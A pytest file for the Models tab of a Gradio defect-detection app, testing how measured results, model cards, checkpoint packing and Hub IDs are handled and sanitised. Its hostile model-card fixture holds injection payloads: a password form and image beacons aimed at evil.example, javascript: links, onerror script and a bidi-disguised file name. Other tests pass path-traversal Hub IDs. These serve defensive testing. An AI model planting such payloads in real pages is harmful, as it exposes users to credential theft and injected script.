"""The tab Models: cards, measured results and calibration facts; Hub models that may and may not be opened."""

import dataclasses
import json
import os
import shutil
import subprocess
import sys
import zipfile
from pathlib import Path
from types import SimpleNamespace

import gradio as gr
import pytest
from paths import ROOT, TILES
from PIL import Image
from sentences import assert_sentence, refused
from serving import served

from page.models.checkpoint_zip import pack_checkpoint
from page.models.model_shelf import ModelShelf, measured_results
from page.server.settings import Settings
from page.tabs.models_tab import MAX_SHOWN, NO_CARD, _open, _pack, _show, calibration_html, results_html
from pipelines.checkpoint_names import CARD, EVALUATION
from training.evaluate import main as evaluation_command
from training.evaluation.example_sheet import CELL
from training.hub.card_sections import results_section
from training.records.error_rates import rejected_shares
from training.records.measured_results import find_sheet, forget_results, keep_results, read_results

FIGURES = {"image_auroc": 0.95, "pixel_auroc": 0.765, "pixel_ap": 0.256, "pro": 0.769, "detection_rate": 0.59}
REPORT = {
    "promised_false_alarm_rate": 0.01,
    "pictures": {"good": 381, "break": 85},
    "groups": {name: FIGURES | {"false_alarm_rate": 0.005, "native_pro": 0.7} for name in ("all", "break")},
}


P_VALUES = {"good": [[0.01, 4], [0.5, 177], [1.0, 200]], "break": [[0.01, 50], [0.3, 35]]}


@pytest.fixture
def checkpoint(tiny_checkpoint, tmp_path):
    """A copy of the tiny checkpoint that may be changed."""
    return Path(shutil.copytree(tiny_checkpoint, tmp_path / "tile"))


@pytest.fixture
def page(checkpoint):
    return SimpleNamespace(settings=Settings(hub_models=("team/*",)), shelf=ModelShelf([checkpoint], ["team/*"]))


# Measured results


def test_results_are_kept_with_a_checkpoint_and_shown(page, checkpoint):
    keep_results(checkpoint, None, "tile & <b>more</b>", REPORT)
    results = measured_results(page.shelf.get("tile"))
    assert results["groups"]["break"] == FIGURES | {"false_alarm_rate": 0.005}
    words = results_html(results)
    for figure in ("0.950", "0.765", "0.256", "0.769", "1.0 %", "0.5 %", "381 good images", "85 with defects", "59 %"):
        assert figure in words
    assert "tile &amp; &lt;b&gt;more&lt;/b&gt;" in words
    forget_results(checkpoint)
    assert measured_results(page.shelf.get("tile")) is None
    assert "Not measured" in results_html(None)


def test_every_figure_can_be_read_on_a_phone(browser, checkpoint, tmp_path):
    keep_results(checkpoint, None, "tiles", REPORT)
    with served(checkpoint, tmp_path, training=False) as (url, _):
        page = browser.new_page(viewport={"width": 1280, "height": 844})
        page.goto(url)
        page.get_by_role("tab", name="Models").click()  # on a phone it lies in a menu
        page.set_viewport_size({"width": 390, "height": 844})
        table = page.locator("#model-results table")
        table.wait_for(timeout=60_000)
        cells = table.locator("tbody th, tbody td").all()
        assert len(cells) == 2 * (2 + len(FIGURES))
        for cell in cells:
            box = cell.bounding_box()
            assert box["x"] >= 0
            assert box["x"] + box["width"] <= 390
            assert cell.evaluate("cell => cell.scrollWidth <= cell.clientWidth + 1")
        assert "rejected" in table.evaluate("t => getComputedStyle(t.querySelectorAll('td')[1], '::before').content")
        assert page.evaluate("document.documentElement.scrollWidth") <= 390


@pytest.mark.parametrize("is_estimate", [False, True])
def test_a_rate_that_is_an_estimate_is_never_called_a_promise(tmp_path, is_estimate):
    keep_results(tmp_path, None, "tiles", REPORT | {"is_estimate": is_estimate})
    result = read_results(tmp_path)
    said = [results_html(result), results_section([result])]
    assert ["promised" in words.lower() for words in said] == [not is_estimate] * 2
    assert ["estimated" in words.lower() for words in said] == [is_estimate] * 2


def test_results_of_each_category_are_kept_apart_and_measured_again_replaced(tmp_path):
    keep_results(tmp_path, "nut", "nuts", REPORT)
    keep_results(tmp_path, "bolt", "bolts", REPORT)
    keep_results(tmp_path, "nut", "new nuts", REPORT)
    assert read_results(tmp_path, "nut")["data"] == "new nuts"
    assert read_results(tmp_path, "bolt")["data"] == "bolts"
    assert read_results(tmp_path) is None


def test_p_values_are_kept_in_a_line_each_and_older_results_have_none(tmp_path):
    keep_results(tmp_path, None, "tiles [\n 1,\n 2\n ]", REPORT | {"p_values": P_VALUES})
    keep_results(tmp_path, "nut", "nuts", REPORT)
    assert read_results(tmp_path)["p_values"] == P_VALUES
    assert read_results(tmp_path)["data"] == "tiles [\n 1,\n 2\n ]"
    assert "p_values" not in read_results(tmp_path, "nut")
    assert "        [0.5, 177],\n" in (tmp_path / EVALUATION).read_text()


def test_a_measured_rate_is_rounded_once_and_alike_on_page_and_card(tmp_path):
    measured = FIGURES | {"false_alarm_rate": 2 / 191, "detection_rate": 201 / 392}
    keep_results(tmp_path, None, "tiles", REPORT | {"groups": {"all": measured}})
    result = read_results(tmp_path)
    assert "<b>1.0 %</b> measured" in results_html(result)
    assert "51 % | 1.0 % |" in results_section([result])


SPEED = {"seconds_per_picture": 0.2, "device": "CPU (X)", "threads": 2, "batch_size": 8, "precision": "float32"}


def test_speed_is_kept_and_older_results_have_none(tmp_path):
    keep_results(tmp_path, None, "tiles", REPORT)
    assert read_results(tmp_path)["speed"] is None
    (tmp_path / EVALUATION).write_text(json.dumps([{"category": None, "data": "d"} | REPORT]))
    assert read_results(tmp_path)["data"] == "d"
    keep_results(tmp_path, None, "tiles", REPORT | {"speed": SPEED})
    assert read_results(tmp_path)["speed"] == SPEED


def damaged(**changes):
    result = {"category": None, "data": "d"} | REPORT | changes
    return json.dumps([result])


@pytest.mark.parametrize(
    "content",
    [
        "",
        "{}",
        "[1]",
        "[" * 10_000,
        damaged(data=["<script>"]),
        damaged(groups={}),
        damaged(groups={"all": FIGURES}),
        damaged(groups={"all": dict.fromkeys([*FIGURES, "false_alarm_rate"], "<script>")}),
        damaged(pictures={"good": "<script>"}),
        damaged(speed=[0.2]),
        damaged(speed=SPEED | {"seconds_per_picture": "<script>"}),
        damaged(speed=SPEED | {"seconds_per_picture": float("nan")}),
        damaged(speed=SPEED | {"threads": None}),
        damaged(speed=SPEED | {"device": ["<script>"]}),
        damaged(p_values=[]),
        damaged(p_values=P_VALUES | {"break": [[0.5, "<script>"]]}),
        damaged(p_values=P_VALUES | {"break": [["<script>", 85]]}),
        damaged(p_values=P_VALUES | {"break": [[float("nan"), 85]]}),
        damaged(p_values=P_VALUES | {"break": [[10**400, 85]]}),
        damaged(p_values=P_VALUES | {"break": [[0.5, 84]]}),
        damaged(p_values=P_VALUES | {"break": [[0.5, 86], [0.6, -1]]}),
        damaged(p_values=P_VALUES | {"break": [[0.6, 80], [0.5, 5]]}),
        damaged(p_values=P_VALUES | {"break": [[0.5, True], [0.6, 84]]}),
        damaged(p_values=P_VALUES | {"break": [[0.5, 85, 0]]}),
        damaged(p_values=P_VALUES | {"break": [0.5, 85]}),
        damaged(p_values=P_VALUES | {"<script>": [[0.5, 85]]}),
        damaged(p_values={"good": P_VALUES["good"]}),
        damaged(
            pictures={"good": 381, "break": 10_000},
            p_values=P_VALUES | {"break": [[place / 10_000, 1] for place in range(1, 10_001)]},
        ),
        damaged(promised_false_alarm_rate=7),
        damaged(is_estimate="<b>"),
        damaged(promised_false_alarm_rate=10**400),
        damaged(data="x" * 10_000),
        damaged(category="x" * 10_000),
        damaged(pictures={"good": 10**400}),
        damaged(pictures={"good": -1}),
        damaged(pictures={str(number): 1 for number in range(10_000)}),
        damaged(groups={"all": REPORT["groups"]["all"], "x" * 10_000: REPORT["groups"]["all"]}),
        "[" + " " * (8 << 20) + "]",
    ],
)
def test_results_of_another_shape_are_taken_for_none(content, tmp_path):
    (tmp_path / EVALUATION).write_text(content)
    assert read_results(tmp_path) is None


def evaluate(checkpoint, environment, output_dir, *options):
    command = [sys.executable, "training/evaluate.py", "--model", checkpoint, "--data_dir", TILES, "--no_native"]
    command += ["--output_dir", output_dir, "--sheet_rows", "1", *options]
    done = subprocess.run(command, cwd=ROOT, env=environment, capture_output=True, text=True, timeout=300)
    assert done.returncode == 0, done.stderr


def test_the_evaluation_leaves_its_figures_with_the_checkpoint_if_it_is_asked_to(checkpoint, environment, tmp_path):
    evaluate(checkpoint, environment, tmp_path / "out", "--keep_with_model")
    assert find_sheet(checkpoint) is None  # test images are published only if somebody says so
    report = json.loads((tmp_path / "out" / "report.json").read_text())
    kept = read_results(checkpoint)
    assert kept["data"] == TILES.name
    assert kept["pictures"] == report["pictures"]
    assert kept["groups"]["all"]["pro"] == pytest.approx(report["groups"]["all"]["pro"], abs=1e-4)
    assert kept["groups"].keys() == report["groups"].keys()
    assert kept["speed"] == report["speed"]
    shares = rejected_shares(kept["p_values"], report["promised_false_alarm_rate"])
    assert shares["all"] == pytest.approx(report["groups"]["all"]["detection_rate"])
    assert shares["good"] == pytest.approx(report["groups"]["all"]["false_alarm_rate"])
    assert shares["crack"] == pytest.approx(report["groups"]["crack"]["detection_rate"])
    assert 0 < kept["speed"]["seconds_per_picture"] < 60
    assert kept["speed"]["batch_size"] == 8


@pytest.mark.usefixtures("one_core")
def test_the_evaluation_leaves_examples_with_the_checkpoint_if_it_is_asked_to(checkpoint, tmp_path):
    arguments = ["--model", str(checkpoint), "--data_dir", str(TILES), "--no_native", "--sheet_rows", "1"]
    evaluation_command([*arguments, "--keep_examples", "--output_dir", str(tmp_path / "out")])
    assert read_results(checkpoint)["data"] == TILES.name
    with Image.open(checkpoint / find_sheet(checkpoint)) as sheet:
        assert sheet.width > 4 * CELL
    with pytest.raises(SystemExit) as ended:
        evaluation_command(["--model", "team/tile", "--data_dir", str(TILES), "--keep_examples"])
    assert_sentence(ended.value.code, "--keep_examples", "team/tile")


# What is shown


def test_a_card_is_shown_without_the_image_that_lies_beside_it(page, checkpoint):
    sheet = {None: "examples/sheet.webp"}
    result = {"category": None, "data": "d", **REPORT}
    (checkpoint / CARD).write_text(f"# Tiles\n\n{results_section([result], sheet)}\n\nThe end.")
    card = page.shelf.get("tile").card
    assert "sheet.webp" not in card
    assert "Cyan" not in card
    assert "| all defects | 85 |" in card
    assert card.endswith("The end.")


def test_facts_and_card_are_those_of_the_model(page, checkpoint):
    facts, results, card, *_ = _show(page, "tile")
    assert "24 good images" in facts
    assert "4 %" in facts
    assert "estimate, not a promise" in facts
    assert "Not measured" in results
    assert card.startswith("# Defect")
    assert "```python\nfrom diffusers" in card
    assert "library_name" not in card
    (checkpoint / "README.md").unlink()
    assert _show(page, "tile")[2] == NO_CARD
    with pytest.raises(gr.Error) as caught:
        _show(page, "<b>other</b>")
    assert_sentence(caught.value.message, "there is no model")


HOSTILE_CARD = """<style>body{display:none}</style><form action=http://evil.example><input name=password></form>
<img src=x onerror=alert(1)> ![pixel](http://evil.example/a.png) ![a][b] <!-- hidden
over lines --> \u202egnp.exe\u200b\x1b[2J

1. ```mermaid
   graph TD; A[x]; click A href "javascript:alert(1)"

~~~ Mermaid x
````&#109;ermaid
> ```mer\\maid
```Python
a < b
```

[b]: http://evil.example/b.png
[x](javascript:alert(1))
"""


def test_a_strangers_card_is_words_alone(page, checkpoint):
    (checkpoint / "README.md").write_text("---\nlicense: mit\n---\n" + HOSTILE_CARD + "x" * 100_000)
    card = _show(page, "tile")[2]
    assert len(card) <= MAX_SHOWN
    assert not [letter for letter in card if not letter.isprintable() and letter != "\n"]
    assert "<" not in card
    assert "![" not in card
    assert "hidden" not in card
    assert [line.strip() for line in card.splitlines() if "```" in line or "~~~" in line] == [
        *("1. ```", "~~~", "````", "> ```", "```python", "```")
    ]
    assert "a ‹ b" in card


def test_a_strangers_card_shows_as_words_in_a_browser(browser, checkpoint, tmp_path):
    """Whatever of it was markup, the page has no element of it, and asks no other server for anything."""
    (checkpoint / "README.md").write_text(HOSTILE_CARD)
    with served(checkpoint, tmp_path, training=False) as (url, _):
        page = browser.new_page()
        asked, alerts = [], []
        page.on("request", lambda request: asked.append(request.url))
        page.on("dialog", lambda dialog: (alerts.append(dialog.message), dialog.dismiss()))
        page.goto(url)
        page.get_by_role("tab", name="Models").click()
        card = page.locator("#model-card")
        card.get_by_text("a ‹ b").wait_for(timeout=60_000)
        assert card.locator("style, form, input, img, script, svg.mermaid, .mermaid").count() == 0
        assert not [href for href in card.locator("a").evaluate_all("a => a.map(x => x.href)") if "script" in href]
        page.wait_for_timeout(1000)
    assert alerts == []
    assert not [address for address in asked if "evil" in address]


def test_hostile_names_in_results_are_text(checkpoint, page):
    evil = "<b>\u202egnp.exe\n|"
    groups = {"all": REPORT["groups"]["all"], evil: REPORT["groups"]["break"]}
    keep_results(checkpoint, None, evil, REPORT | {"groups": groups})
    words = results_html(measured_results(page.shelf.get("tile")))
    assert words.count("&lt;b&gt; gnp.exe |") == 2
    assert "\u202e" not in words


def test_a_name_is_text_and_no_markup(page):
    model = dataclasses.replace(page.shelf.get("tile"), name="<b>x")
    assert "&lt;b&gt;x" in calibration_html(model)


def test_a_model_of_the_owners_is_not_offered_for_download(checkpoint, tmp_path):
    shelf = ModelShelf([checkpoint])
    page = SimpleNamespace(shelf=shelf, settings=Settings(trained_models=str(tmp_path / "elsewhere")))
    assert not _show(page, shelf.names[0])[-1]["interactive"]
    with pytest.raises(gr.Error, match="is not offered for download"):
        _pack(page, shelf.names[0])
    page.settings = Settings(trained_models=str(checkpoint.parent))
    assert _show(page, shelf.names[0])[-1]["interactive"]
    assert [Path(file).suffix for file in _pack(page, shelf.names[0])["value"]] == [".zip"]
    (checkpoint / "report.html").write_text("<p>A report")
    packed, report = map(Path, _pack(page, shelf.names[0])["value"])
    assert report.name == f"{shelf.names[0]}-report.html"
    assert report.read_text() == "<p>A report"
    with zipfile.ZipFile(packed) as archive:
        assert not [name for name in archive.namelist() if name.endswith("report.html")]


def test_two_models_of_one_name_are_refused_at_start(checkpoint):
    with pytest.raises(ValueError, match="two models are named"):
        ModelShelf([checkpoint, checkpoint])


def test_a_packed_checkpoint_is_whole_and_holds_no_training_state(checkpoint, tmp_path):
    (checkpoint / "checkpoint-7").mkdir()
    (checkpoint / "checkpoint-7" / "optimizer.bin").write_bytes(b"x")
    (checkpoint / "progress.jsonl").write_text("{}\n")
    os.utime(checkpoint / "model_index.json", (0, 0))  # as in a container image; ZIPs begin with 1980
    pack_checkpoint(checkpoint, tmp_path / "mine.zip")
    with zipfile.ZipFile(tmp_path / "mine.zip") as archive:
        archive.extractall(tmp_path / "unpacked")
    assert [path.name for path in (tmp_path / "unpacked").iterdir()] == ["mine"]
    assert not list((tmp_path / "unpacked").rglob("checkpoint-*"))
    assert not list((tmp_path / "unpacked").rglob("progress*"))
    assert ModelShelf([tmp_path / "unpacked" / "mine"]).names == ["mine"]


# The Hub


@pytest.mark.parametrize(
    "hub_id", ["../../etc", "/etc/passwd", "", None, "team", "team/../x", "a/b/c", "<b>/x", "a b/c"]
)
def test_what_is_no_hub_id_is_answered_in_a_sentence(hub_id, page):
    opening = _open(page, hub_id)
    assert "<b>" not in next(opening)[0]
    with pytest.raises(gr.Error) as caught:
        next(opening)
    assert_sentence(caught.value.message, "organisation/name")


def test_a_hub_id_that_is_not_allowed_is_answered_in_a_sentence(page):
    opening = _open(page, "other/model")
    assert "other/model" in next(opening)[0]
    with pytest.raises(gr.Error) as caught:
        next(opening)
    assert_sentence(caught.value.message, "other/model", "not among")


def test_without_an_allow_list_nothing_is_opened(checkpoint):
    with refused(ValueError, "team/model", "not among"):
        ModelShelf([checkpoint]).open_from_hub("team/model")


def test_a_hub_model_of_several_categories_is_fetched_once(page):
    page.shelf._models["team/parts: nut"] = page.shelf.get("tile")
    assert page.shelf.open_from_hub("team/parts") == ["team/parts: nut"]
